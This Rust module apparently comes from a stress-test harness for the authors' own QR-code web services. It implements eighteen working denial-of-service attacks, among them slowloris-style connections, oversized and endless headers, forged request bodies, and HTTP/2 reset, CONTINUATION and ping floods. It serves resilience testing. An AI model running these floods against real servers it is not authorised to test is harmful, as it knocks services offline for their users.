//! The attacks.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

use crate::frames;

/// The size of the attacks.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Size {
    connections: usize,
    /// Connections that send large bodies at the same time.
    bodies: usize,
    /// Frames of each HTTP/2 connection, of which there are ten.
    frames: u32,
}

impl Size {
    pub(crate) const FULL: Self = Self { connections: 5000, bodies: 1000, frames: 20_000 };
    pub(crate) const SMALL: Self = Self { connections: 400, bodies: 100, frames: 2000 };
}

#[derive(Debug, Clone, Copy)]
pub(crate) enum Attack {
    Nothing,
    Idle,
    HalfHeaders,
    EndlessHeaders,
    ManyHeaders,
    Pipelining,
    ForgedBodies,
    StalledBodies,
    Garbage,
    CloseAtOnce,
    Http2Resets,
    Http2Pings,
    Http2Settings,
    Http2EndlessHeaders,
    Http2EmptyContinuations,
    Http2ManyStreams,
    Http2LargeHeaders,
    Http2NoWindow,
}

const HTTP2_CONNECTIONS: usize = 10;

/// The largest body of CodeQR, and one byte: what is announced as larger is refused before it is read.
const BODY: usize = 2 * 1024 * 1024;
const STUDIO_BODY: usize = 256 * 1024;

impl Attack {
    pub(crate) const ALL: [Self; 18] = [
        Self::Nothing,
        Self::Idle,
        Self::HalfHeaders,
        Self::EndlessHeaders,
        Self::ManyHeaders,
        Self::Pipelining,
        Self::ForgedBodies,
        Self::StalledBodies,
        Self::Garbage,
        Self::CloseAtOnce,
        Self::Http2Resets,
        Self::Http2Pings,
        Self::Http2Settings,
        Self::Http2EndlessHeaders,
        Self::Http2EmptyContinuations,
        Self::Http2ManyStreams,
        Self::Http2LargeHeaders,
        Self::Http2NoWindow,
    ];

    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::Nothing => "none",
            Self::Idle => "idle connections",
            Self::HalfHeaders => "half headers",
            Self::EndlessHeaders => "headers of 400 KB without end",
            Self::ManyHeaders => "thousands of headers",
            Self::Pipelining => "requests without reading responses",
            Self::ForgedBodies => "forged bodies of the largest size",
            Self::StalledBodies => "bodies that stop in the middle",
            Self::Garbage => "garbage",
            Self::CloseAtOnce => "connections closed at once",
            Self::Http2Resets => "HTTP/2 streams reset at once",
            Self::Http2Pings => "HTTP/2 pings",
            Self::Http2Settings => "HTTP/2 settings",
            Self::Http2EndlessHeaders => "HTTP/2 headers without end",
            Self::Http2EmptyContinuations => "HTTP/2 continuations of nothing",
            Self::Http2ManyStreams => "HTTP/2 streams without bodies",
            Self::Http2LargeHeaders => "HTTP/2 streams with large headers",
            Self::Http2NoWindow => "HTTP/2 responses without a window",
        }
    }

    /// Attacks in rounds until `is_over`, at least one. Returns the number of connections, or of frames for HTTP/2.
    pub(crate) async fn run(
        self,
        address: SocketAddr,
        path: &'static str,
        size: Size,
        is_over: impl Fn() -> bool,
    ) -> usize {
        let mut done = 0;
        loop {
            done += self.round(address, path, size).await;
            if is_over() {
                return done;
            }
            sleep(Duration::from_millis(10)).await;
        }
    }

    async fn round(self, address: SocketAddr, path: &'static str, size: Size) -> usize {
        let hold = Duration::from_secs(2);
        match self {
            Self::Nothing => {
                sleep(Duration::from_millis(100)).await;
                0
            }
            Self::Idle => many(size.connections, move |_| send(address, Vec::new(), hold)).await,
            Self::HalfHeaders => {
                many(size.connections, move |_| send(address, b"POST /qrstudio HTTP/1.1\r\nhost: ".to_vec(), hold))
                    .await
            }
            Self::EndlessHeaders => {
                let head = [b"POST / HTTP/1.1\r\nx: ".to_vec(), vec![b'a'; 400_000]].concat();
                many(size.bodies, move |_| send(address, head.clone(), hold)).await
            }
            Self::ManyHeaders => {
                let head = format!("POST {path} HTTP/1.1\r\n{}", "a: b\r\n".repeat(20_000));
                many(size.bodies, move |_| send(address, head.clone().into_bytes(), hold)).await
            }
            Self::Pipelining => {
                let request = format!("POST {path} HTTP/1.1\r\nhost: a\r\ncontent-length: 0\r\n\r\n");
                let requests = request.repeat(2000);
                // Few connections: actix-web reads on, so that more of them only take its processor.
                many(size.bodies / 10, move |_| send(address, requests.clone().into_bytes(), hold)).await
            }
            Self::ForgedBodies => many(size.bodies, move |number| forged(address, path, number, true)).await,
            Self::StalledBodies => many(size.bodies, move |number| forged(address, path, number, false)).await,
            Self::Garbage => {
                let byte = |at: usize| u8::try_from(at * 7919 % 251).unwrap_or(0);
                many(size.connections / 10, move |number| {
                    send(address, (number..number + 3000).map(byte).collect(), Duration::ZERO)
                })
                .await
            }
            Self::CloseAtOnce => many(size.connections, move |_| send(address, Vec::new(), Duration::ZERO)).await,
            Self::Http2Resets => {
                http2(address, size.frames, move |number| frames::open_and_reset(2 * number + 1, path)).await
            }
            Self::Http2Pings => http2(address, size.frames, |_| frames::ping()).await,
            Self::Http2Settings => http2(address, size.frames, |_| frames::settings()).await,
            Self::Http2EndlessHeaders => {
                let next =
                    move |number| if number == 0 { frames::endless_headers(path) } else { frames::more_headers() };
                http2(address, size.frames / 20, next).await
            }
            Self::Http2ManyStreams => {
                http2(address, size.frames, move |number| frames::open(2 * number + 1, path)).await
            }
            Self::Http2EmptyContinuations => {
                let next =
                    move |number| if number == 0 { frames::endless_headers(path) } else { frames::no_more_headers() };
                http2(address, size.frames, next).await
            }
            Self::Http2LargeHeaders => {
                http2(address, size.frames / 20, move |number| frames::open_with_a_large_header(2 * number + 1, path))
                    .await
            }
            Self::Http2NoWindow => {
                let next = move |number| match number {
                    0 => frames::no_window(),
                    number => frames::whole(2 * number + 1, path),
                };
                http2(address, size.frames, next).await
            }
        }
    }
}

/// Runs this many at the same time, and returns their number.
async fn many<F: Future<Output = ()> + Send + 'static>(count: usize, one: impl Fn(usize) -> F) -> usize {
    let mut all = JoinSet::new();
    for number in 0..count {
        all.spawn(one(number));
    }
    all.join_all().await.len()
}

/// Sends bytes, and holds the connection for a while. The other side may close it at any time.
async fn send(address: SocketAddr, bytes: Vec<u8>, hold: Duration) {
    let Ok(mut stream) = TcpStream::connect(address).await else { return };
    let _ = timeout(Duration::from_secs(5), stream.write_all(&bytes)).await;
    sleep(hold).await;
}

/// Sends a body with a wrong signature: whole, or only its first half. Every other one is chunked, and does not announce
/// its length.
async fn forged(address: SocketAddr, path: &str, number: usize, whole: bool) {
    let Ok(mut stream) = TcpStream::connect(address).await else { return };
    let length = if path == "/codeqr" { BODY } else { STUDIO_BODY };
    let mac = "0".repeat(64);
    let chunked = number % 2 == 1;
    let framing = if chunked { "transfer-encoding: chunked".to_owned() } else { format!("content-length: {length}") };
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: a\r\n{framing}\r\ncodeqr-signature: {mac}\r\nx-qrstudio-signature: t=1,v1={mac}\r\n\r\n"
    );
    let sent = if whole { length } else { length / 2 };
    let mut bytes = head.into_bytes();
    if chunked {
        bytes.extend(format!("{sent:x}\r\n").bytes());
    }
    bytes.extend(std::iter::repeat_n(b' ', sent));
    if chunked {
        bytes.extend(b"\r\n0\r\n\r\n");
    }
    let attack = async {
        stream.write_all(&bytes).await?;
        // The response, or the end of the connection.
        stream.read(&mut [0; 64]).await
    };
    let _ = timeout(Duration::from_secs(10), attack).await;
}

/// Sends frames on several connections, as fast as the other side reads them. A server that has had enough closes them.
async fn http2(address: SocketAddr, count: u32, next: impl Fn(u32) -> Vec<u8> + Copy + Send + Sync + 'static) -> usize {
    let one = move |_| async move {
        let Ok(stream) = TcpStream::connect(address).await else { return };
        let (mut input, mut output) = stream.into_split();
        // What the server says is read, so that it is not kept from writing by us.
        let reading = tokio::spawn(async move { while matches!(input.read(&mut [0; 16_384]).await, Ok(1..)) {} });
        let attack = async {
            output.write_all(&[frames::PREFACE, &frames::settings()].concat()).await?;
            for number in 0..count {
                output.write_all(&next(number)).await?;
            }
            std::io::Result::Ok(())
        };
        let _ = timeout(Duration::from_secs(10), attack).await;
        reading.abort();
    };
    many(HTTP2_CONNECTIONS, one).await * usize::try_from(count).unwrap_or(0)
}
